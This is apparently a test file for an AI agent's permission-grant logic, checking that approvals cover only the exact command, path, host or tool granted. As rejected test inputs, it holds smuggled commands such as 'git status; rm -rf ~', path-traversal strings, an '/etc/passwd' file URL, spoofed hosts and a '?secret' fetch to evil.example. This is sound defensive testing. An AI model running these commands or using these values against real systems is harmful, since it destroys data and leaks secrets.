"""What a grant covers: calls that are equal to what was granted, and nothing that only looks like it."""

from __future__ import annotations

import json
from dataclasses import replace
from datetime import timedelta

from hypothesis import given
from hypothesis import strategies as st

from agent_core.models import ToolCall
from agent_core.provenance import person, untrusted_origin
from agent_core.tools.effects import Effect
from agent_core.tools.grants import Grant, GrantKind, Scope, covers, in_force, scope_of
from agent_core.tools.policy import Proposal
from tests.clock import EPOCH
from tests.rows import rows

HOUR = timedelta(hours=1)
PAGE, MAIL = (
    untrusted_origin("web", "https://evil.test/", EPOCH),
    untrusted_origin("mail", "eve@evil.test", EPOCH),
)
NAMES = st.text(
    st.characters(blacklist_characters="/\\\0", blacklist_categories=["Cs"]), min_size=1, max_size=8
).filter(lambda name: name not in (".", ".."))
WORDS = st.text(max_size=30)


def command(text: str, *origins: object) -> Proposal:
    call = ToolCall(id="c", name="shell", arguments={"command": text, "description": "whatever"})
    return Proposal(call, Effect.EXECUTE, tuple(origins), (text,))  # type: ignore[arg-type]


def write(*paths: str, effect: Effect = Effect.WRITE_WORKSPACE) -> Proposal:
    return Proposal(ToolCall(id="c", name="write_file", arguments={}), effect, (), paths)


def fetch(url: str) -> Proposal:
    return Proposal(
        ToolCall(id="c", name="web_fetch", arguments={"url": url}), Effect.NETWORK_GET, (), (url,)
    )


def granted(proposal: Proposal, **more: object) -> Grant:
    scope = scope_of(proposal)
    assert scope is not None
    given = Grant("g1", scope, "here", ("ann",), "ann", EPOCH, EPOCH + HOUR, origins=tuple(proposal.origins))
    return replace(given, **more)  # type: ignore[arg-type]


def passes(grant: Grant, proposal: Proposal, **more: object) -> bool:
    terms: dict[str, object] = {"conversation": "here", "people": ["ann"], "turn": "t", "now": EPOCH, **more}
    return covers(grant, proposal, **terms)  # type: ignore[arg-type]


@given(WORDS, WORDS)
def test_a_command_is_itself_and_nothing_else(one: str, other: str) -> None:
    """Letter for letter; what it is said to be for does not matter."""
    grant = granted(command(one))
    assert passes(grant, command(one))
    assert passes(grant, command(other)) is (one == other)


@rows(
    "wrapped",
    ['sh -c "git status"', "git status; rm -rf ~", "git status && ls", "git status ", " git status", "git  status",
     "GIT status", "git status\n", "git status # x", "$(git status)", "env git status", "git\u00a0status",
     "./git status", "git status\0", "gi\u0442 status"],
)  # fmt: skip
def test_no_wrapper_is_covered(wrapped: str) -> None:
    """A grant for ``git status`` is for that."""
    assert not passes(granted(command("git status")), command(wrapped))


def test_another_tool_is_not_covered() -> None:
    """The same words for something else that runs programs."""
    other = command("git status")
    other = replace(other, call=other.call.model_copy(update={"name": "run_in_background"}))
    assert not passes(granted(command("git status")), other)


@given(st.lists(NAMES, min_size=1, max_size=3), st.lists(NAMES, min_size=1, max_size=4), NAMES)
def test_a_folder_is_what_is_below_it(folder: list[str], more: list[str], sibling: str) -> None:
    """All that is below it, by whole names; a file of its own name, another folder, or two names are not."""
    grant = granted(write("/".join([*folder, "a.txt"])))
    assert passes(grant, write("/".join([*folder, *more])))
    assert not passes(grant, write("/".join(folder)))
    beside = "/".join([*folder[:-1], folder[-1] + sibling, "a.txt"])
    assert not passes(grant, write(beside))
    assert not passes(grant, write("/".join([*folder, "a.txt"]), beside))
    assert not passes(grant, write())
    assert not passes(grant, write("/".join([*folder, "a.txt"]), effect=Effect.PERSIST))


@rows(
    "path",
    ["notes/../MEMORY.md", "notes/./a", "notes//a", "/notes/a", "notes", "notes/", "./notes/a", "notes\\..\\a/b",
     "notes/a/../../b", "Notes/a", "notes/\0/a"],
)  # fmt: skip
def test_a_path_that_leads_elsewhere_is_not_covered(path: str) -> None:
    """Nor one that is only spelled in another way."""
    assert not passes(granted(write("notes/a.txt")), write(path))


@rows(
    ("url", "covered"),
    [("https://example.org/b?c=d", True), ("https://EXAMPLE.org/", True), ("http://example.org/", False),
     ("https://example.org:8443/", False), ("https://example.org.evil.test/", False),
     ("https://example.org@evil.test/", False), ("https://user@example.org/", False), ("https://www.example.org/", False),
     ("https://evil.test/https://example.org/", False), ("https://evil.test#example.org", False), ("example.org", False),
     ("https://[::1", False), ("https://example.org:x/", False), ("file://example.org/etc/passwd", False)],
)  # fmt: skip
def test_a_host_is_scheme_name_and_port(url: str, covered: bool) -> None:
    """And whatever is below it."""
    assert passes(granted(fetch("https://example.org/a")), fetch(url)) is covered


def test_a_tool_of_a_server_is_that_tool() -> None:
    """With any arguments; a built-in tool has no such grant."""
    call = ToolCall(id="c", name="git__status", arguments={"a": 1})
    one = Proposal(call, Effect.NETWORK_SEND)
    grant = granted(one)
    assert grant.scope == Scope(GrantKind.TOOL, "git__status")
    assert passes(grant, replace(one, call=call.model_copy(update={"arguments": {"b": 2}})))
    assert not passes(grant, replace(one, call=call.model_copy(update={"name": "git__status2"})))
    assert not passes(grant, replace(one, origins=(PAGE,)))
    assert scope_of(Proposal(ToolCall(id="c", name="send_file", arguments={}), Effect.SEND)) is None
    assert scope_of(Proposal(ToolCall(id="c", name="memory_write", arguments={}), Effect.PERSIST)) is None


def test_after_a_strangers_words_only_what_was_shown_with_them() -> None:
    """The very command, and no source that its question has not named; nor does a file or a page follow one."""
    after = granted(command("make", PAGE))
    assert passes(after, command("make", PAGE))
    assert passes(after, command("make"))
    assert passes(after, command("make", PAGE, person("bob", EPOCH)))
    assert not passes(after, command("make", MAIL))
    assert not passes(after, command("make", PAGE, MAIL))
    assert not passes(granted(command("make")), command("make", PAGE))
    named = granted(replace(write("notes/a"), origins=(PAGE,)))
    assert passes(named, replace(write("notes/b"), origins=(PAGE,)))
    assert not passes(named, replace(write("notes/b"), origins=(PAGE, MAIL)))
    assert not passes(granted(write("notes/a")), replace(write("notes/b"), origins=(PAGE,)))
    own = untrusted_origin("web", "https://site.test/a", EPOCH)
    site = granted(replace(fetch("https://site.test/a"), origins=(MAIL,)))
    assert passes(site, replace(fetch("https://site.test/b"), origins=(MAIL, own)))
    assert not passes(site, replace(fetch("https://site.test/?secret"), origins=(MAIL, PAGE)))


@rows("effect", list(Effect))
def test_after_a_strangers_words_no_tool_of_a_server_is_covered(effect: Effect) -> None:
    """What it fetches could carry anything out. The control is the same without these words."""
    asked = Proposal(ToolCall(id="c", name="net__get", arguments={"url": "https://a.example/"}), effect)
    grant = granted(asked)
    call = ToolCall(id="d", name="net__get", arguments={"url": "https://evil.example/?secret"})
    other = replace(asked, call=call)
    assert passes(grant, other)
    assert not passes(grant, replace(other, origins=(PAGE,)))


def test_what_is_sent_is_compared_whole_though_it_goes_to_the_same_recipient() -> None:
    """The control is a command, of which a tool's note about it is no part."""
    for effect, covered in ((Effect.NETWORK_SEND, False), (Effect.EXECUTE, True)):
        asked = Proposal(
            ToolCall(id="c", name="post", arguments={"body": "hello"}), effect, (), ("https://a.example/",)
        )
        other = replace(asked, call=ToolCall(id="d", name="post", arguments={"body": "the secret"}))
        assert passes(granted(asked), other) is covered


def test_where_for_whom_and_when() -> None:
    """In its conversation, for wishes of its people alone, within its time and its turn."""
    one = command("make")
    grant = granted(one)
    assert not passes(grant, one, conversation="there")
    assert passes(replace(grant, conversation=""), one, conversation="there")
    for people in ([], ["bob"], ["ann", "bob"]):
        assert not passes(grant, one, people=people)
    assert passes(replace(grant, people=("ann", "bob")), one, people=["bob"])
    assert passes(replace(grant, turn="t"), one)
    assert not passes(replace(grant, turn="other"), one)
    assert passes(grant, one, now=EPOCH + HOUR - timedelta(seconds=1))
    assert not passes(grant, one, now=EPOCH + HOUR)


@given(st.integers(-10_000, 10_000), st.integers(-10_000, 10_000))
def test_time_that_runs_backwards_ends_it(first: int, second: int) -> None:
    """Whenever it is looked at: later than before, and within its hour."""
    grant = granted(command("make"))
    seen, now = EPOCH + timedelta(seconds=first), EPOCH + timedelta(seconds=second)
    holds = in_force(replace(grant, seen_at=seen), now)
    assert holds is (0 <= second < 3600 and first <= second)


@given(WORDS, st.lists(WORDS, max_size=3))
def test_anything_that_is_asked_about_can_be_compared(name: str, targets: list[str]) -> None:
    """No name, path or address makes it fail, and what is granted covers itself."""
    for effect in Effect:
        one = Proposal(ToolCall(id="c", name=name, arguments={"x": name}), effect, (), tuple(targets))
        scope = scope_of(one)
        if scope is not None:
            json.dumps(scope._asdict())
            assert passes(granted(one), one)


@given(st.sampled_from(["house__switch", "shell", "write_file", "web_fetch"]), st.sampled_from(list(Effect)))
def test_what_is_offered_spares_the_same_question(name: str, effect: Effect) -> None:
    """After any words: a tool of a server that has spoken is asked about each time, so it offers nothing."""
    server = untrusted_origin("mcp", "house", EPOCH)
    for origins in ((), (server,), (PAGE, MAIL), (person("bob", EPOCH),)):
        one = Proposal(ToolCall(id="c", name=name, arguments={}), effect, origins, ("notes/a.txt",))
        assert scope_of(one) is None or passes(granted(one), one)
        if name == "house__switch":
            assert (scope_of(one) is None) is (server in origins or PAGE in origins)
